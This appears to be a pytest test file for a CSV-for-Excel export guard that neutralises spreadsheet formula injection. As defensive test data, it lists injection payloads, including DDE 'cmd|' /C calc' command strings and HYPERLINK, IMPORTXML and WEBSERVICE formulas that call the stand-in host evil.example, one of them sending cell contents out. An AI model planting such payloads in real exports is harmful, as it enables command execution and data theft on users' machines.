"""CSV for Excel: nothing in it runs, and all else is what the plain CSV says."""

import codecs
import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest

from annotator.release.formats.spreadsheet import for_excel

COMMANDS = (
    *("1+1", 'cmd|" /C calc"!A0', 'HYPERLINK("http://evil.example/?"&A1;"x")', "SUM(1;2)", "A1", 'DDE("a";"b";"c")'),
    *('IMPORTXML("http://evil.example","//a")', 'WEBSERVICE("http://evil.example")', "1;2\n=3", "“x”", "\u202e1+1"),
    *("2+5+cmd|' /C calc'!A0", "@SUM(1)", "", " ", "=1", "RAND()"),
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]


def table(rows: list[list[str]], cut: int = 7) -> list[list[str]]:
    """What a spreadsheet finds in rows that went out in small pieces."""
    plain = io.StringIO(newline="")
    csv.writer(plain).writerows(rows)
    sent = plain.getvalue().encode()
    body = b"".join(for_excel(sent[at : at + cut] for at in range(0, len(sent), cut)))
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_no_cell_begins_with_what_runs():
    found = [row[0] for row in table([[payload, "x"] for payload in PAYLOADS])]
    assert len(found) >= 100
    assert not [cell for cell in found if cell.startswith(STARTS)]
    assert [cell.removeprefix("'") for cell in found] == PAYLOADS


def test_what_runs_nothing_is_not_touched():
    rows = [["a=1", "Ärger 👋", "", "12", " -3", "two\nlines\r\nthree", 'say "so"', "x" * 200_000]]
    assert table(rows, cut=1000) == rows


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed (libreoffice-calc-nogui)")
def test_libreoffice_finds_no_formula_in_it(tmp_path: Path) -> None:
    plain = io.StringIO(newline="")
    csv.writer(plain).writerows([[payload, "x"] for payload in PAYLOADS])
    assert "table:formula" in opened_in_libreoffice(plain.getvalue().encode(), tmp_path / "plain.csv")
    sheet = opened_in_libreoffice(b"".join(for_excel([plain.getvalue().encode()])), tmp_path / "guarded.csv")
    assert "table:formula" not in sheet
    assert sheet.count("cmd|") >= len(STARTS)


def opened_in_libreoffice(content: bytes, path: Path) -> str:
    path.write_bytes(content)
    home = f"-env:UserInstallation=file://{path.parent / 'home'}"
    command = ["soffice", home, "--headless", "--convert-to", "fods", "--infilter=CSV:44,34,76,1", path.name]
    subprocess.run(command, cwd=path.parent, check=True, capture_output=True, timeout=120)
    return path.with_suffix(".fods").read_text()
